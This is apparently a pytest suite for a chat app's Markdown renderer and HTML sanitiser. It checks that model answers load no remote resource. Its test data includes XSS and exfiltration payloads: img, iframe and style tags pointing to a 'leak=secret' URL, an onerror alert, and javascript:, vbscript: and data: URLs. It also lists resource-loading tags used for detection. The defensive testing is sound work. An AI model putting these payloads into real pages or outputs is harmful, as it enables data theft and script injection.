"""The Markdown renderer (conversations/rendering.py): answers load no resource, images
become links, raw HTML and unsafe URLs are neutered."""

from html.parser import HTMLParser

import pytest

from conversations.rendering import html_sanitise, markdown_to_html

LEAK = "http://127.0.0.2:9/p.png?leak=secret"
# What in HTML makes a browser fetch something by itself (no click).
LOADING_TAGS = {
    "img", "image", "iframe", "frame", "object", "embed", "link", "style", "script",
    "video", "audio", "source", "track", "picture", "svg", "input", "base", "meta",
}  # fmt: skip
LOADING_ATTRIBUTES = {
    "src", "srcset", "poster", "ping", "background", "data", "xlink:href", "action",
}  # fmt: skip


class _Loads(HTMLParser):
    def __init__(self) -> None:
        super().__init__()
        self.found: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag in LOADING_TAGS:
            self.found.append(f"<{tag}>")
        for name, value in attrs:
            if name in LOADING_ATTRIBUTES or "url(" in (value or "").lower():
                self.found.append(f"<{tag} {name}={value!r}>")


def loads(html: str) -> list[str]:
    """Return the elements and attributes of ``html`` that would load a resource."""
    parser = _Loads()
    parser.feed(html)
    parser.close()
    return parser.found


def test_a_remote_image_becomes_a_link_with_its_alt_text():
    html = markdown_to_html(f"![x]({LEAK})")
    assert html == (
        '<p><a href="http://127.0.0.2:9/p.png?leak=secret" '
        'rel="noopener noreferrer nofollow">x</a></p>\n'
    )
    assert not loads(html)


def test_an_image_without_alt_text_is_a_link_showing_its_url():
    html = markdown_to_html('![](https://example.com/a.png "A title")')
    assert html == (
        '<p><a href="https://example.com/a.png" title="A title" '
        'rel="noopener noreferrer nofollow">https://example.com/a.png</a></p>\n'
    )


def test_an_image_of_our_own_origin_is_a_link_too():
    html = markdown_to_html("![logo](/static/favicon.svg)")
    assert '<a href="/static/favicon.svg"' in html and not loads(html)


def test_an_image_inside_a_link_leaves_only_its_text():
    html = markdown_to_html(f"[![x *y*]({LEAK})](https://example.com/)")
    assert html == (
        '<p><a href="https://example.com/" '
        'rel="noopener noreferrer nofollow">x y</a></p>\n'
    )


def test_images_in_tables_and_reference_style_become_links():
    text = f"| a |\n|---|\n| ![t]({LEAK}) |\n\n![r][ref]\n\n[ref]: {LEAK}\n"
    html = markdown_to_html(text)
    assert html.count(f'<a href="{LEAK.replace("&", "&amp;")}"') == 2
    assert not loads(html)


@pytest.mark.parametrize(
    "text",
    [
        f'<img src="{LEAK}">',
        f'<p><img src="{LEAK}" onerror="alert(1)"></p>',
        f'<iframe src="{LEAK}"></iframe>',
        f'<link rel="stylesheet" href="{LEAK}">',
        f"<style>body {{ background: url({LEAK}) }}</style>",
        f'<object data="{LEAK}"></object>',
        f'<video poster="{LEAK}"></video>',
        f'<svg><image href="{LEAK}"/></svg>',
        f'<picture><source srcset="{LEAK}"></picture>',
    ],
)
def test_raw_html_in_the_markdown_is_shown_as_text_not_elements(text):
    html = markdown_to_html(f"Look: {text}")
    assert not loads(html)
    assert "&lt;" in html  # the model's HTML is visible, escaped


@pytest.mark.parametrize(
    "html",
    [
        f'<img src="{LEAK}">',
        f'<img srcset="{LEAK} 2x">',
        f'<iframe src="{LEAK}"></iframe>',
        f'<link rel="stylesheet" href="{LEAK}">',
        f"<style>p {{ background: url({LEAK}) }}</style>",
        f'<object data="{LEAK}"></object>',
        f'<embed src="{LEAK}">',
        f'<video poster="{LEAK}"><source src="{LEAK}"></video>',
        f'<svg><image href="{LEAK}"/></svg>',
        f'<script src="{LEAK}"></script>',
        f'<table><tr><td style="background: url({LEAK}); text-align: left">c</td>'
        "</tr></table>",
        f'<a href="https://example.com/" ping="{LEAK}" '
        f'style="background-image: url({LEAK})">l</a>',
        f'<div background="{LEAK}">d</div>',
    ],
)
def test_the_sanitiser_removes_whatever_could_load_a_resource(html):
    """The second layer: even HTML that reached nh3 loads nothing."""
    assert loads(html) and not loads(html_sanitise(html))


def test_table_alignment_is_a_class_not_a_style_attribute():
    """The Content-Security-Policy refuses style attributes (settings)."""
    html = markdown_to_html("| l | c | r | n |\n|:--|:-:|--:|---|\n| 1 | 2 | 3 | 4 |")
    assert html.count('class="align-left"') == html.count('class="align-right"') == 2
    assert html.count('class="align-center"') == 2
    assert "style" not in html
    assert "style" not in html_sanitise('<p style="text-align: right">p</p>')


@pytest.mark.parametrize(
    "text",
    [
        "![d](data:image/png;base64,iVBORw0KGgo=)",
        "[d](data:text/html;base64,PHNjcmlwdD4=)",
        "![j](javascript:alert(1))",
        "[j](javascript:alert(1))",
        "[v](vbscript:msgbox(1))",
        "<javascript:alert(1)>",
    ],
)
def test_data_and_javascript_urls_lose_their_link(text):
    html = markdown_to_html(text)
    assert "href=" not in html and not loads(html)


def test_html_with_data_and_javascript_urls_loses_them():
    html = html_sanitise(
        '<a href="javascript:alert(1)">j</a><a href="data:text/html,x">d</a>'
    )
    assert "href" not in html and "javascript" not in html and "data:" not in html
